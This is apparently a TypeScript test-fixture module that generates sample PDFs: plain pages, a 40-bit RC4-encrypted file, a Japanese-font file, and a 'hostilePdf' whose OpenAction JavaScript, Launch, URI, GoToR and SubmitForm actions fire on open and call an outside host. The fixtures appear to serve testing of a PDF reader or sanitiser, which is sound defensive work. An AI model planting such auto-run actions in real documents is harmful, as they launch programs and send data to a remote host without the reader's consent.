import { createHash } from 'node:crypto';

/**
 * Makes a small PDF of so many pages, each with its words, in a font that is not in it; `more` goes into the catalog.
 */
export function pdfOf(pages: string[], more = '', annotation = ''): Buffer {
  const kids = pages.map((_, index) => `${4 + 2 * index} 0 R`).join(' ');
  const objects = [
    `<< /Type /Catalog /Pages 2 0 R ${more} >>`,
    `<< /Type /Pages /Kids [${kids}] /Count ${pages.length} >>`,
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
  ];
  for (const words of pages) {
    const content = `BT /F1 24 Tf 72 720 Td (${words}) Tj ET 0.2 0.3 0.8 rg 72 500 300 120 re f`;
    objects.push(
      `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 3 0 R >> >> ` +
        `/Contents ${objects.length + 2} 0 R ${annotation} >>`,
      `<< /Length ${content.length} >>\nstream\n${content}\nendstream`,
    );
  }
  return assembled(objects);
}

/** The octets that pad a password that is too short (ISO 32000 §7.6.4.3.2). */
const padding = Buffer.from('28bf4e5e4e758a4164004e56fffa01082e2e00b6d0683e802f0ca9fe6453697a', 'hex');
const padded = (password: string) =>
  Buffer.concat([Buffer.from(password, 'latin1'), padding]).subarray(0, 32);
const md5 = (...pieces: Buffer[]) => createHash('md5').update(Buffer.concat(pieces)).digest();

/** Encrypts with RC4, as the oldest readers know it. */
function rc4(key: Buffer, data: Buffer): Buffer {
  const state = Uint8Array.from({ length: 256 }, (_, index) => index);
  const swap = (a: number, b: number) => {
    [state[a], state[b]] = [state[b] ?? 0, state[a] ?? 0];
  };
  for (let at = 0, other = 0; at < 256; at += 1) {
    other = (other + (state[at] ?? 0) + (key[at % key.length] ?? 0)) & 255;
    swap(at, other);
  }
  let [at, other] = [0, 0];
  return data.map((octet) => {
    at = (at + 1) & 255;
    other = (other + (state[at] ?? 0)) & 255;
    swap(at, other);
    return octet ^ (state[((state[at] ?? 0) + (state[other] ?? 0)) & 255] ?? 0);
  }) as Buffer;
}

/** Makes a page of words that opens only with this password (ISO 32000 §7.6.3, revision 2: 40 bits). */
export function lockedPdf(words: string, password: string): Buffer {
  const id = md5(Buffer.from(words));
  const owner = rc4(md5(padded(password)).subarray(0, 5), padded(password));
  const key = md5(padded(password), owner, Buffer.from([0xfc, 0xff, 0xff, 0xff]), id).subarray(0, 5);
  const content = Buffer.from(`BT /F1 24 Tf 72 720 Td (${words}) Tj ET`);
  // The fifth object: its number and its generation are part of the key.
  const sealed = rc4(md5(key, Buffer.from([5, 0, 0, 0, 0])).subarray(0, 10), content);
  const objects = [
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [4 0 R] /Count 1 >>',
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 3 0 R >> >> /Contents 5 0 R >>',
    `<< /Length ${sealed.length} >>\nstream\n${sealed.toString('latin1')}\nendstream`,
    `<< /Filter /Standard /V 1 /R 2 /P -4 /O <${owner.toString('hex')}> /U <${rc4(key, padding).toString('hex')}> >>`,
  ];
  const hex = id.toString('hex');
  return assembled(objects, `/Encrypt 6 0 R /ID [<${hex}> <${hex}>]`);
}

/**
 * Makes a page of words in a script that needs a map of its letters, which lies beside the reader and not in the file.
 */
export function japanesePdf(words: string): Buffer {
  const hex = Buffer.from(words, 'utf16le').swap16().toString('hex');
  const content = `BT /F1 24 Tf 72 720 Td <${hex}> Tj ET`;
  return assembled([
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [4 0 R] /Count 1 >>',
    '<< /Type /Font /Subtype /Type0 /BaseFont /HeiseiMin-W3 /Encoding /UniJIS-UCS2-H /DescendantFonts [6 0 R] >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 3 0 R >> >> /Contents 5 0 R >>',
    `<< /Length ${content.length} >>\nstream\n${content}\nendstream`,
    '<< /Type /Font /Subtype /CIDFontType0 /BaseFont /HeiseiMin-W3 /FontDescriptor 7 0 R ' +
      '/CIDSystemInfo << /Registry (Adobe) /Ordering (Japan1) /Supplement 2 >> >>',
    '<< /Type /FontDescriptor /FontName /HeiseiMin-W3 /Flags 4 /FontBBox [0 -200 1000 900] /ItalicAngle 0 ' +
      '/Ascent 800 /Descent -200 /CapHeight 700 /StemV 80 >>',
  ]);
}

/** Makes the file with these objects, the first of which is its catalog (ISO 32000 §7.5). */
export function assembled(objects: string[], more = ''): Buffer {
  let text = '%PDF-1.7\n';
  const places = objects.map((object, index) => {
    const place = text.length;
    text += `${index + 1} 0 obj\n${object}\nendobj\n`;
    return `${String(place).padStart(10, '0')} 00000 n \n`;
  });
  const table = `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${places.join('')}`;
  const end = `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R ${more} >>\nstartxref\n${text.length}\n%%EOF\n`;
  return Buffer.from(text + table + end, 'latin1');
}

/** Makes a PDF that asks a reader to run, to call, to open and to send as soon as it is opened. */
export function hostilePdf(host: string): Buffer {
  const js = `<< /S /JavaScript /JS (app.launchURL\\('${host}/js'\\); this.submitForm\\('${host}/form'\\);) >>`;
  const actions = [
    js,
    `<< /S /URI /URI (${host}/uri) >>`,
    `<< /S /Launch /F (${host}/launch.exe) >>`,
    `<< /S /GoToR /F << /FS /URL /F (${host}/remote.pdf) >> /D [0 /Fit] >>`,
    `<< /S /SubmitForm /F << /FS /URL /F (${host}/submit) >> >>`,
  ];
  const names = `/Names << /JavaScript << /Names [(a) ${js}] >> >>`;
  const links = actions.map(
    (action) =>
      `<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A ${action} /AA << /PO ${action} /E ${action} >> >>`,
  );
  const more = `/OpenAction ${js} /AA << /WC ${js} /DS ${actions[1] ?? ''} >> ${names}`;
  return pdfOf(['Hostile'], more, `/AA << /O ${js} /C ${actions[1] ?? ''} >> /Annots [${links.join(' ')}]`);
}
